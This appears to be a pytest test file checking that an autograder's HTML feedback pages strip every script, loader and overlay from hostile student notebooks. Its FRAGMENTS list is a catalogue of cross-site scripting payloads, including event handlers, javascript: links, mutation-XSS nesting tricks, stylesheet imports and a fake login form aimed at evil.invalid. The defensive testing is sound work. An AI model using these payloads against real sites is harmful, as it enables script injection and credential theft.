"""Feedback is safe to open: whatever stands in a graded notebook, the page shows text and runs, loads, covers nothing.

The graded notebook is made here with what `autograder.grade.submission` would have taken out, so that the page is
tested by itself; nothing is run.
"""

import json
import shutil
from html.parser import HTMLParser
from unittest.mock import patch

import nbformat
import pytest

from autograder import feedback
from autograder.course import Course
from autograder.grade import one
from autograder.grade.cells import shown_as_code
from autograder.grade.execution import CellReport, Run
from gradus.calling import Outcome
from tests.conftest import ROOT

FRAGMENTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.invalid/x.js>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.invalid/x.png'>",
    "![x](http://evil.invalid/y.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](attachment:x.svg)",
    "<iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,x'></object><embed src='//evil.invalid/e'>",
    "<form action='http://evil.invalid'><input name=password><button>Log in</button></form>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<style>@import 'http://evil.invalid/z.css'; body { display: none }</style>",
    "<link rel=stylesheet href='http://evil.invalid/l.css'><base href='http://evil.invalid/'>",
    "<meta http-equiv=refresh content='0; url=http://evil.invalid/'>",
    "<div style='position:fixed;inset:0'>covers</div>",
    "<div class='navbar-fixed-top modal-backdrop in' id='notebook'>covers</div>",
    "<a name=top href='javascript:alert(1)'>x</a><a href=' jAvascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a><a href='vbscript:x' target=_top>y</a>",
    "[x](javascript:alert(1)) [y](<java\tscript:alert(1)>) [z][r]\n\n[r]: javascript:alert(1)\n",
    "<https://evil.invalid/auto> <javascript:alert(1)>",
    "<details ontoggle=alert(1) open>x</details><video autoplay onloadstart=alert(1)><source>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template><slot onslotchange=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$ $$\\require{html}\\style{position:fixed}{x}$$",
    "<!--><script>alert(1)</script>--> <![CDATA[<script>alert(1)</script>]]> <?php x ?>",
    "</pre></code></div></body><script>alert(1)</script>",
    "\x1b[31m\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07\x1b[2J &lt;script&gt; &#60;script&#62;",
    "```html\n<script>alert(1)</script>\n```",
    "{{ 7 * 191 }} {% raw %} <title></title><textarea></textarea>",
]
HOSTILE = "\n\n".join(FRAGMENTS)
RUNS_OR_LOADS = set(
    "script iframe frame object embed form input button select textarea link base svg math img picture video"
    " audio source template slot portal canvas applet marquee noscript".split()
)


class Tags(HTMLParser):
    """The elements of a page: (name, attributes)."""

    def __init__(self, page):
        super().__init__()
        self.found = []
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))


def harmless(found):
    for tag, attributes in found:
        assert tag not in RUNS_OR_LOADS
        assert not [name for name in attributes if name.startswith("on") or name == "srcdoc"]
        address = attributes.get("href") or "#"
        assert address.startswith(("#", "http://", "https://", "mailto:")), address


@pytest.mark.parametrize("fragment", [*FRAGMENTS, HOSTILE])
def test_html_is_cleaned(fragment):
    for page in (feedback.clean(fragment), feedback.render(fragment)):
        found = Tags(page).found
        harmless(found)
        assert {tag for tag, _ in found} <= feedback._TAGS
        for _, attributes in found:
            assert not {"style", "id", "name", "target"} & attributes.keys()
            assert attributes.get("class", "anchor-link") == "anchor-link"


def test_the_table_of_a_verdict_and_ordinary_text_are_kept():
    table = "<div class='gradus-check'><table><tbody><tr><td>pass</td></tr></tbody></table></div>"
    assert feedback.clean(table) == table.replace("'", '"')
    text = feedback.render("**a** `b < c` [d](https://e.org)\n\n- f")
    for part in ("<strong>a</strong>", "<code>b &lt; c</code>", 'href="https://e.org"', "<li>f"):
        assert part in text


# So many beginnings without an end in one line.
FONTS = 15_000


@pytest.fixture(scope="module")
def pages(released, name, assignment, tmp_path_factory):
    """The feedback of mallory's graded notebook, which is full of hostile text, and of alice's empty one."""
    made = tmp_path_factory.mktemp("feedback") / "course"
    shutil.copytree(released, made)
    course = Course.find(ROOT, directory=made)
    empty = nbformat.writes(assignment.released).encode()
    _grade(course, assignment, "alice", empty, {})
    submitted = json.loads(empty)
    for cell in submitted["cells"]:
        if cell["cell_type"] == "markdown" and cell["metadata"].get("nbgrader"):
            cell["source"] = f"My answer. {HOSTILE}"
    submitted["cells"].append({"cell_type": "code", "source": f"'''{HOSTILE}'''", "metadata": {}})
    submitted["cells"].append({"cell_type": "raw", "source": HOSTILE, "metadata": {}})
    fonts = f"'{'@font-face {' * FONTS}'"
    submitted["cells"].append({"cell_type": "code", "source": fonts, "metadata": {}})
    _grade(course, assignment, "mallory", json.dumps(submitted).encode(), {"hostile": True})
    written = feedback.write_feedback(course, name)
    assert [page.parent.parent.name for page in written] == ["alice", "mallory"]
    return written


def _grade(course, assignment, student, data, hostile):
    """Put a graded notebook where the grader puts it, and the student into the gradebook."""
    from nbgrader.api import Gradebook

    def execute(cells, plans, sandbox):
        kind = "raised" if hostile else "not found"
        outcome = Outcome(kind, error=HOSTILE[:300], message=HOSTILE[-500:], line=HOSTILE[:500])
        told = CellReport(HOSTILE, *FRAGMENTS[:3]) if hostile else CellReport()
        return Run(
            {index: told for index, _ in cells},
            {plan.exercise: [outcome] * len(plan.cases) for plan in plans},
        )

    names = [f"the notebook was called {shown_as_code(f)}" for f in FRAGMENTS if hostile]
    with patch.object(one, "execute", execute):
        notebook = one.grade_notebook(
            one.read(data, assignment, names).notebook, assignment, None
        ).notebook
    if hostile:
        # What reading would have taken apart.
        output = nbformat.v4.new_output(
            "display_data",
            data={
                "text/html": HOSTILE,
                "image/svg+xml": "<svg onload=alert(1)></svg>",
                "application/javascript": "alert(1)",
                "image/png": "AAAA",
                "text/latex": HOSTILE,
                "text/markdown": HOSTILE,
                "text/plain": HOSTILE,
            },
        )
        stream = nbformat.v4.new_output("stream", name="stderr", text=HOSTILE)
        notebook.cells += [
            nbformat.v4.new_code_cell(HOSTILE, outputs=[output, stream]),
            nbformat.v4.new_markdown_cell(HOSTILE),
            nbformat.v4.new_markdown_cell("long <script>alert(1)</script>" * 1000),
        ]
        notebook.metadata["title"] = HOSTILE
    file = course.directory / "autograded" / student / assignment.name / f"{assignment.name}.ipynb"
    file.parent.mkdir(parents=True)
    nbformat.write(notebook, file)
    with Gradebook(f"sqlite:///{course.directory}/gradebook.db", course.name) as gradebook:
        gradebook.update_or_create_student(student)
        gradebook.update_or_create_submission(assignment.name, student)


def test_the_page_has_no_element_that_runs_or_loads(pages):
    page = pages[1].read_text("utf-8")
    found = Tags(page).found
    harmless(found)
    metas = [attributes for tag, attributes in found if tag == "meta"]
    policy = next(m["content"] for m in metas if "Content-Security-Policy" in m.values())
    for rule in ("default-src 'none'", "form-action 'none'", "base-uri 'none'"):
        assert rule in policy
    assert [m.get("http-equiv") for m in metas if "http-equiv" in m] == ["Content-Security-Policy"]
    assert all(character.isprintable() or character in "\t\n\xa0\ufffd\u202e" for character in page)
    assert "My answer." in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "7 * 191" in page and str(7 * 191) not in page
    assert page.count("@font-face") == FONTS


def test_a_browser_runs_and_asks_for_nothing(pages, browser):
    events, shapes = [], []
    for file in pages:
        page = browser.new_page()
        page.on("request", lambda request: events.append(request.url))
        page.on("console", lambda message: events.append(message.text))
        page.on("pageerror", lambda error: events.append(str(error)))
        page.on("dialog", lambda dialog: (events.append(dialog.message), dialog.dismiss()))
        page.on("popup", lambda popup: events.append(popup.url))
        page.goto(file.as_uri())
        page.wait_for_timeout(300)
        shapes.append(
            page.evaluate(
                """() => {
                    const all = [...document.querySelectorAll('*')];
                    const names = new Set(all.map(e => e.localName));
                    const covers = all.filter(e =>
                        ['fixed', 'sticky', 'absolute'].includes(getComputedStyle(e).position));
                    return {
                        names: [...names],
                        styles: document.querySelectorAll('style').length,
                        styled: document.querySelectorAll('.container [style]').length,
                        covers: covers.map(e => e.outerHTML.slice(0, 100)),
                        alien: all.filter(
                            e => e.namespaceURI !== 'http://www.w3.org/1999/xhtml').length,
                        notebooks: document.querySelectorAll('#notebook-container').length,
                        hidden: getComputedStyle(document.body).display === 'none',
                    };
                }"""
            )
        )
    assert events == [file.as_uri() for file in pages]
    empty, hostile = shapes
    assert not RUNS_OR_LOADS & set(hostile.pop("names"))
    empty.pop("names")
    assert hostile == empty
    assert hostile["covers"] == [] and hostile["alien"] == 0 and not hostile["hidden"]
